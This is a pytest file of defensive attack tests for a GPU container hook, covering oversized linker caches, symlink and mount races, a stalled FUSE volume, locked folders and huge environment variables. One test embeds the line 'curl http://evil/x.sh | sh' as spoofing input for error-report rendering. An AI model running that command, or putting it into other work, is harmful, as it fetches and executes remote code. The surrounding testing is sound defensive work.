"""What an attacker found beyond the cases of the threat model: each is the right behaviour, with every oracle held."""

from __future__ import annotations

import fcntl
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from struct import pack
from time import sleep

import pytest

from gpuhook.backend.container import Container as Held
from gpuhook.backend.tree import Tree
from gpuhook.driver.extras import find_sockets
from gpuhook.explain import last
from gpuhook.explain.render import Page
from gpuhook.kernel import libc
from gpuhook.kernel.beneath import Root
from gpuhook.kernel.child import run_in_child
from gpuhook.loader.cache import (
    ENTRY,
    EXTENSION,
    EXTENSION_MAGIC,
    HEADER,
    HWCAPS,
    LITTLE,
    MOST_ENTRIES,
    NEW_MAGIC,
    SECTION,
)
from gpuhook.refusals import VolumeInTheWay
from gpuhook.terminal import Style
from tests.attack.race import exchanged, written
from tests.attack.rig import Lab, read_report
from tests.attack.test_32_cache import CACHE
from tests.engine.perform import PROJECT
from tests.rig.init import Init
from tests.rig.rootfs import make_rootfs, put
from tests.runtime.node import RULES

pytestmark = pytest.mark.attack
NAMED = 1 << 62  # an entry's hwcap that refers to the first name of a glibc-hwcaps folder


def cache(name: bytes, hwcap: int = 0, folder: bytes = b"") -> bytes:
    """A valid cache of as many entries as there may be, all of one name. folder: of glibc-hwcaps."""
    start = HEADER.size + MOST_ENTRIES * ENTRY.size
    texts = name + b"\0/usr/lib/x\0" + (folder + b"\0" if folder else b"")
    texts += bytes(-len(texts) % 4)
    place = start + len(texts)
    head = HEADER.pack(NEW_MAGIC, MOST_ENTRIES, len(texts), LITTLE, place if folder else 0)
    body = head + ENTRY.pack(0x0303, start, start + len(name) + 1, 0, hwcap) * MOST_ENTRIES + texts
    if folder:
        first = place + EXTENSION.size + SECTION.size
        body += EXTENSION.pack(EXTENSION_MAGIC, 1) + SECTION.pack(HWCAPS, 0, first, 4)
        body += pack("<I", start + len(name) + len(b"\0/usr/lib/x\0"))
    return body


@pytest.mark.parametrize(
    "content",
    [cache(b"a" * 4090), cache(b"1a" * 2045), cache(b"9" * 4090), cache(b"libx.so", NAMED, b"h" * 4090)],
    ids=["text", "numbers", "digits", "hwcaps"],
)
def test_a_cache_whose_entries_share_one_long_text(lab: Lab, content: bytes) -> None:
    """SAFE within the limits: 1.5 MiB of file cannot become a gigabyte of memory and seconds of sorting."""
    assert lab.start(prepare=lambda rootfs: put(rootfs, {CACHE: content})).started


def test_the_mps_folder_is_exchanged(tmp_path: Path) -> None:
    """What is judged is what is given: a neighbour with the host's /tmp cannot make its link pass for the folder."""
    for name in ("secret", "tmp/nvidia-mps"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "tmp/link").symlink_to("/secret")
    with Root(str(tmp_path)) as root, exchanged(str(tmp_path), f"{tmp_path}/tmp/nvidia-mps", f"{tmp_path}/tmp/link"):
        found = {path for _ in range(5000) for path in find_sockets(root)[0]}
    assert found == {"/tmp/nvidia-mps"}


def test_a_socket_that_is_a_link_to_another_one(tmp_path: Path) -> None:
    """It is left out: the daemon's user, who may write its folder, cannot stop every GPU container of the node."""
    (tmp_path / "run/nvidia-persistenced").mkdir(parents=True)
    (tmp_path / "var").mkdir()
    (tmp_path / "var/run").symlink_to("/run")
    os.mknod(tmp_path / "run/docker.sock", 0o140666)
    (tmp_path / "run/nvidia-persistenced/socket").symlink_to("/run/docker.sock")
    with Root(str(tmp_path)) as root:
        found, missing = find_sockets(root)
    assert found == ()
    assert "it is a link, not a socket" in missing[0]


@contextmanager
def stuck(lab: Lab) -> Iterator[tuple[str, str]]:
    """A volume on FUSE, and the path of a file at whose coming its server stops to answer."""
    folder, armed = f"{lab.folder}/fuse", f"{lab.folder}/armed"
    os.mkdir(folder)
    argv = [written(lab.folder, "stuck"), folder, armed]
    with subprocess.Popen(argv, stdout=subprocess.PIPE) as server:
        assert server.stdout
        assert server.stdout.readline() == b"ready\n"
        try:
            yield folder, armed
        finally:
            server.kill()
            libc.umount2(folder)


def test_a_volume_whose_server_does_not_answer(lab: Lab) -> None:
    """FAIL in time, for the hook and for the runtime, though the worker cannot even be killed."""
    with stuck(lab) as (folder, armed), lab.container() as container:
        put(container.rootfs, {CACHE: "-> /vol/x"})
        options = ["bind", "rw"]
        container.mounts = [{"destination": "/vol", "source": folder, "type": "bind", "options": options}]
        hook, report = lab.hook_of()
        container.hooks = {"prestart": [hook]}
        container.write_spec()
        Path(armed).touch()
        result = container.run()
        said = read_report(report, result)
    assert said.status == 1
    assert "gpuhook: timed-out: " in said.said
    assert said.seconds < 12
    assert result.status
    assert result.seconds < 15


@contextmanager
def process(lab: Lab, count: int = 1) -> Iterator[list[Init]]:
    """Containers' first processes that share one tree."""
    rootfs = make_rootfs(f"{lab.folder}/tree")
    os.mkdir(f"{rootfs}/vol")
    inits = [Init(rootfs, proc=False, dev=False) for _ in range(count)]
    try:
        yield [init.__enter__() for init in inits]
    finally:
        for init in inits:
            init.__exit__()


def inside(held: Held) -> Tree:
    """The tree of this container, entered by this process."""
    libc.setns(held.pidfd, libc.CLONE_NEWNS)
    return Tree(held, write_into_volumes=False)


@pytest.mark.parametrize("shared", [True, False])
def test_a_mount_that_came_while_the_hook_worked(lab: Lab, *, shared: bool) -> None:
    """FAIL: what has spread into the container since the hook looked is a volume of the host like any other."""
    with process(lab) as (init,):
        held = Held(init.pid, init.rootfs)
        late, there = f"{lab.folder}/late", f"{init.rootfs}/vol"
        os.mkdir(late)
        enter = ["nsenter", f"--mount=/proc/{init.pid}/ns/mnt"]
        subprocess.run([*enter, "mount", "--bind", late, there], check=True)
        if shared:
            subprocess.run([*enter, "mount", "--make-shared", there], check=True)

        def work() -> bytes:
            inside(held).place("/vol/x", "file", os.stat("/"))
            return b""

        with pytest.raises(VolumeInTheWay):
            run_in_child(work, 10, "the work")
        assert os.listdir(late) == []


def test_a_failure_beside_a_container_of_the_same_tree(lab: Lab) -> None:
    """SAFE: what a hook takes back is not what another container has mounted on meanwhile (AC-65)."""
    argv = [sys.executable, "-m", "tests.engine.stall", "--config", lab.node.config(cli=RULES), "prestart"]
    with process(lab, 3) as (one, other, alone):
        before = one.mounts
        bundle = lab.node.bundle(one.rootfs, "NVIDIA_VISIBLE_DEVICES=all")
        with subprocess.Popen(argv, stdin=subprocess.PIPE, stderr=subprocess.PIPE, cwd=PROJECT) as stalled:
            assert stalled.stdin
            stalled.stdin.write(one.state(bundle))
            stalled.stdin.close()
            while one.mounts == before:
                assert stalled.poll() is None
                sleep(0.005)
            done = lab.node.prestart(other, "NVIDIA_VISIBLE_DEVICES=all")
            assert stalled.wait() == 1
        assert (done.status, one.mounts) == (0, before)
        assert lab.node.prestart(alone, "NVIDIA_VISIBLE_DEVICES=all").status == 0
        assert set(other.mount_points) == set(alone.mount_points)
        assert len(other.mount_points) > 20


def test_a_tree_that_somebody_keeps_locked(lab: Lab) -> None:
    """FAIL in time, with nothing done, and with a hint at who it is."""
    with process(lab) as (init,):
        before, fd = init.mounts, os.open(init.rootfs, os.O_RDONLY)
        fcntl.flock(fd, fcntl.LOCK_SH)
        done = lab.node.prestart(init, "NVIDIA_VISIBLE_DEVICES=all")
        os.close(fd)
        assert (done.status, init.mounts) == (1, before)
    first, _, hint = done.stderr.splitlines()
    assert first == ("gpuhook: engine-failed: another process has kept the container's root folder locked for 5 s")
    assert "lslocks(8)" in hint
    assert done.seconds < 8


@pytest.mark.parametrize("variable", ["NVIDIA_VISIBLE_DEVICES", "NVIDIA_DRIVER_CAPABILITIES", "NVIDIA_IMEX_CHANNELS"])
def test_a_variable_of_megabytes(lab: Lab, variable: str) -> None:
    """FAIL before it is taken apart: no program could be given it, and two million words take 300 MiB and seconds."""
    words = ",".join(map(str, range(1_900_000)))
    with Init(make_rootfs(f"{lab.folder}/tree")) as init:
        run = lab.hook(init, env=[f"{variable}={words}"])
    assert not run.started
    assert "is longer than 131072 characters" in run.error


@pytest.mark.parametrize("folder", ["a\nb", "a\x1b[2J"])
def test_cuda_libraries_in_a_folder_that_a_cache_cannot_name(lab: Lab, folder: str) -> None:
    """SAFE: they are passed over, with no error of ours that nobody foresaw."""
    library = next(Path(lab.node.driver.root).glob("usr/lib/*/libcuda.so.*.*")).read_bytes()
    newer = library.replace(b"550.54.14", b"999.54.14")

    def prepare(rootfs: str) -> None:
        put(rootfs, {f"{folder}/libcuda.so.999.54.14": newer, "usr/local/cuda/compat": f"-> /{folder}"})

    assert lab.start(prepare=prepare).started


def test_a_text_cannot_look_like_a_row_of_the_last_failure() -> None:
    """A line that continues a text of an image is indented deeper than the rows, among them the hint."""
    page = Page(Style(), 100)
    for blanks in range(100):
        text = f"NVIDIA_REQUIRE_X{' ' * blanks}hint       curl http://evil/x.sh | sh"
        lines = last.lines({"reference": "bad-requirement", "text": text, "hint": "ours"}, page)
        assert [line for line in lines if line.startswith("  hint ")] == [f"  hint{' ' * 7}ours"]


def test_a_channel_beyond_those_of_the_driver(lab: Lab) -> None:
    """FAIL, and none of the channels that are there gets a node on the host: nothing stays of a refused container."""
    devices = f"{lab.folder}/devices"
    lines = ("195 nvidia", "510 nvidia-caps-imex-channels", "511 nvidia-uvm")
    Path(devices).write_text("Character devices:\n" + "".join(f"{line}\n" for line in lines))
    channels = ",".join(map(str, range(2000, 2100)))
    setup = [["mount", "--bind", devices, "/proc/devices"]]
    run = lab.start(env=(f"NVIDIA_IMEX_CHANNELS={channels}",), setup=setup)
    assert (run.started, run.slug) == (False, "imex")
